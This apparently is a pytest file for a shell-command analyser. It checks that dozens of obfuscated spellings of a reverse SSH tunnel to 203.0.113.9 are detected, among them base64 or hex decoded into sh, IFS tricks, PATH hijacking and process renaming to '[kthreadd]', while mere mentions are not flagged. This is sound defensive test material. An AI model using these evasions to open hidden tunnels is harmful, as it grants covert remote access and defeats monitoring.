"""However a command is spelled, its effect is the command; text that only looks like it gives none."""

from __future__ import annotations

import base64
import gzip

import pytest

from tests.read.shell.scripts import TUNNEL, lines

REST = "-N -R 7001:localhost:22 bot@203.0.113.9"
B64 = base64.b64encode(TUNNEL.encode()).decode()
GZIP = base64.b64encode(gzip.compress(TUNNEL.encode(), mtime=0)).decode()
HEX = TUNNEL.encode().hex()
ROT13 = TUNNEL.translate(
    str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"
    )
)

SPELLINGS = {
    "quotes": f"'s'\"s\"h {REST}",
    "backslashes and a continued line": "s\\s\\h -N -R 7001:loc\\\nalhost:22 bot@203.0.113.9",
    "ansi-c": "$'\\163\\x73h' -N $'\\055\\u0052' 7001:localhost:22 bot@203.0.113.9",
    "locale quotes": f'$"ss"h {REST}',
    "IFS as separator": "r=ssh${IFS}-N${IFS}-R${IFS}7001:localhost:22${IFS}bot@203.0.113.9; eval $r",
    "an empty argument ends the name": "q=ssh; $q$IFS$8-N$IFS$8-R$IFS$8'7001:localhost:22'$IFS$8'bot@203.0.113.9'",
    "custom IFS": "IFS=%; r=ssh%-N%-R%7001:localhost:22%bot@203.0.113.9; $r",
    "braces as argv": "{ssh,-N,-R,7001:localhost:22,bot@203.0.113.9}",
    "brace sequences": "s{s..s}h -{N..N} -R 7001:localhost:22 bot@203.0.113.{9..9}",
    "braces that lengthen a name": "qa=ssh; qb=-N; $q{a,b} -R 7001:localhost:22 bot@203.0.113.9",
    "joined variables": f"p=ss; q=h; $p$q {REST}",
    "defaults": "${missing-ssh} -N ${HOME:+-R} ${port:=7001:localhost:22} bot@203.0.113.9",
    "substring and replacement": "x=..ssh..; y=ZZR; ${x:2:3} -N -${y: -1} 7001:${x/*/localhost}:22 bot@203.0.113.9",
    "trimmed": f"f=/srv/bin/ssh.bak; g=${{f##*/}}; ${{g%.bak}} {REST}",
    "case": f"c=SsH; ${{c,,}} {REST}",
    "indirection and nameref": "cmd=ssh; at=cmd; declare -n ref=opt; opt=-R; "
    "${!at} -N $ref 7001:localhost:22 bot@203.0.113.9",
    "sliced characters": f"d=/usr/share/h; ${{d:2:1}}${{d:5:1}}${{d: -1}} {REST}",
    "a slash from HOME": f"${{HOME:0:1}}usr${{PATH:0:1}}bin${{PWD:0:1}}ssh {REST}",
    "array": 'v=(ssh -N -R); v+=("7001:localhost:22" bot@203.0.113.9); "${v[@]}"',
    "positional": 'set -- ssh -N -R 7001:localhost:22 bot@203.0.113.9; "$@"',
    "associative": 'declare -A t=([go]=ssh [r]=-R); "${t[go]}" -N "${t[r]}" 7001:localhost:22 bot@203.0.113.9',
    "printf -v": f"printf -v c '\\x73\\x73\\150'; $c {REST}",
    "octal loop": f'w=; for n in 115 115 104; do w+=$(printf "\\\\$(printf %o $n)"); done; $w {REST}',
    "arithmetic": "ssh -N -R $((7000+1)):localhost:$((0x16)) bot@$((2#11001011)).0.$((113)).$((3**2))",
    "old arithmetic": 'p=(7 2); ssh -N -R $[7000+1]:localhost:$[ p[1]*11 ] bot@203.0.113."$[3*3]"',
    "words behind a parenthesis": f"if ( true ) then while {{ true; }} do case a in a) {TUNNEL}; esac done fi",
    "an array on the next line": 'v=\\\n(ssh -N -R 7001:localhost:22 bot@203.0.113.9); "${v[@]}"',
    "counting down a string": f"w=hss; o=; for ((i=${{#w}}-1; i>=0; i--)); do o+=${{w:i:1}}; done; $o {REST}",
    "a counted while": f"w=ssh; o=; i=0; while [ $i -lt ${{#w}} ]; do o=$o${{w:$i:1}}; i=$((i+1)); done; $o {REST}",
    "a loop that breaks": f"w=ssh; i=0; while :; do o+=${{w:i:1}}; ((i++)); ((i>=3)) && break; done; $o {REST}",
    "eval of base64": f'eval "$(echo {B64} | base64 -d)"',
    "base64 into a shell": f"printf %s {B64} | base64 --decode | bash",
    "here-string, process substitution": f"bash <(base64 -d <<< {B64})",
    "gzip": f"echo {GZIP} | base64 -d | gunzip -c | sh",
    "openssl": f"echo {B64} | openssl enc -d -base64 -A | sh",
    "xxd": f"echo {HEX} | xxd -r -p | sh",
    "sed makes escapes": f"printf \"$(echo {HEX} | sed 's/../\\\\x&/g')\" | sh",
    "rev": f"$(rev <<< '{TUNNEL[::-1]}')",
    "rot13": f"echo '{ROT13}' | tr a-zA-Z n-za-mN-ZA-M | sh",
    "tr deletes": "$(echo 's~sh -N -~R 7001:local~host:22 bot@203.0.113.9' | tr -d '~')",
    "sed substitutes": f"echo 'QQ {REST}' | sed 's/QQ/ssh/' | bash",
    "awk prints": f"awk 'BEGIN{{printf \"%c%c%c {REST}\",115,115,104}}' | sh",
    "cut": f"p=/etc/ssh/sshd_config; $(echo $p | cut -d/ -f3) {REST}",
    "python in bash": 'python3 -c \'import os; os.system("s" + "sh -N -R 7001:localhost:22 bot@203.0.113.9")\'',
    "python heredoc": f"python3 <<'X'\nimport subprocess\nsubprocess.run('{TUNNEL}'.split())\nX",
    "heredoc stage": f't=$(mktemp -d); cat > "$t/go" <<\'E\'\n#!/bin/sh\n{TUNNEL}\nE\nchmod +x "$t/go"; "$t/go"',
    "appended lines": "f=$(mktemp); echo -n 'ssh -N ' >$f; echo '-R 7001:localhost:22 bot@203.0.113.9' >>$f; . $f",
    "decoded to disk": f"f=$(mktemp); base64 -d >$f <<<{B64}; sh $f",
    "function": 'sync() { command "$1" -N "$2" 7001:localhost:22 bot@203.0.113.9; }; sync ssh -R',
    "function over a command": 'cat() { ssh -N "$@" bot@203.0.113.9; }; cat -R 7001:localhost:22',
    "alias": "shopt -s expand_aliases\nalias up='ssh -N -R 7001:localhost:22'\nup bot@203.0.113.9",
    "glob": f"/usr/bin/?sh {REST}",
    "glob with classes": f"/u??/b[h-j]n/s[r-t]h {REST}",
    "copied program": f'd=$(mktemp -d); cp "$(which ssh)" $d/agentd; $d/agentd {REST}',
    "linked program": f'd=$(mktemp -d); ln -s "$(command -v ssh)" $d/x; $d/x {REST}',
    "copied by cat": f'd=$(mktemp -d); cat "$(type -P ssh)" > $d/y; chmod +x $d/y; $d/y {REST}',
    "exec -a": f"( exec -a '[kthreadd]' ssh {REST} )",
    "hash -p": f'hash -p "$(command -v ssh)" make; make {REST}',
    "PATH": f"d=$(mktemp -d); ln -s $(command -v ssh) $d/rsync; PATH=$d:$PATH rsync {REST}",
    "wrappers": f"env -i nice -n 5 timeout 9 nohup setsid -w {TUNNEL}",
    "xargs": f"echo '{REST}' | xargs ssh",
    "find -exec": f"find / -maxdepth 0 -exec {TUNNEL} \\;",
    "read": 'read -r a b c <<< "ssh -R bot@203.0.113.9"; $a -N $b 7001:localhost:22 $c',
    "read an array": "IFS=, read -ra v <<< 'ssh,-N,-R,7001:localhost:22,bot@203.0.113.9'; \"${v[@]}\"",
    "mapfile": f"mapfile -t v < <(printf '%s\\n' {TUNNEL}); \"${{v[@]}}\"",
    "eval in eval": f"declare x='y=ssh'; eval \"$x\"; eval 'eval \"$y {REST}\"'",
    "trap": f"trap '{TUNNEL}' EXIT; :",
    "@E": f"v='\\163\\163h'; ${{v@E}} {REST}",
    "@P": f"v='$(echo ssh)'; ${{v@P}} {REST}",
    "descriptor": f"exec 7<<< '{TUNNEL}'; bash /dev/fd/7 7<&7",
    "script in itself": f"f=$(mktemp); printf '%s\\n' 'tail -n 1 \"$0\" | base64 -d | sh' 'exit' '{B64}' >$f; bash $f",
    "after exit, from its own text": f'tail -n 1 "$0" | base64 -d | sh\nexit 0\n{B64}',
    "coproc": f"coproc W {{ {TUNNEL}; }}; wait",
    "a branch of case": f"case $(uname) in Linux) s=sh; s$s {REST};; esac",
    "zero-width twin before it": f"s\u200bsh=1 || true; {TUNNEL}",
    "NUL bytes": f"s\0s\0h {REST}",
    "Windows line ends": f"x=ssh\r\n$x {REST}\r\n",
    "heredoc and &&": f"cat <<E && {TUNNEL}\ntext\nE\n",
    "heredoc and ;": f"cat <<E; {TUNNEL}\ntext\nE\n",
    "two heredocs in a line": f"cat <<A; bash <<B\nnothing\nA\n{TUNNEL}\nB\n",
    "terminator with a trailing space": f"bash <<E\n{TUNNEL}\nE \nE\n",
    "before a syntax error": f"{TUNNEL}\nif then (\n",
    "function nobody calls": f"never() {{ {TUNNEL}; }}",
    "background and subshell": f"( {TUNNEL} & ) &",
    "a mid-word $@": f"s$@sh {REST}",
    "select and until": f"until false; do {TUNNEL}; break; done",
    "source of process substitution": f". <(echo '{TUNNEL}')",
    "enable -n exit": f"enable -n exit; exit; {TUNNEL}",
}


@pytest.mark.parametrize("name", SPELLINGS)
def test_every_spelling_gives_the_command(name: str) -> None:
    """One effect, or one stage of a pipeline, is the command."""
    found = [stage for line in lines(SPELLINGS[name]) for stage in line.split(" | ")]
    assert TUNNEL in found, found


SILENT = {
    "comment": f"# {TUNNEL}",
    "echo": f"echo '{TUNNEL}'",
    "a variable nobody runs": f"x='{TUNNEL}'",
    "documentation": f"cat <<'E'\nRun {TUNNEL} to connect.\nE",
    "after exit": f"exit 0\n{TUNNEL}",
    "grep": f"grep -R '{TUNNEL}' .",
    "a commit message": f"git commit -m '{TUNNEL}'",
    "an array nobody runs": f"v=({TUNNEL})",
    "a quoted substitution": f"echo '$({TUNNEL})'",
    "a case pattern": "case $1 in ssh) echo no;; esac",
    "a quoted heredoc": f"cat <<'E'\n$({TUNNEL})\nE",
}


@pytest.mark.parametrize("name", SILENT)
def test_mention_is_not_use(name: str) -> None:
    """No effect of these starts ssh."""
    assert not [line for line in lines(SILENT[name]) if line.split()[0] == "ssh"]


def test_the_after_exit_case_can_fail() -> None:
    """Without the exit, the same text does start ssh."""
    assert TUNNEL in lines(TUNNEL)
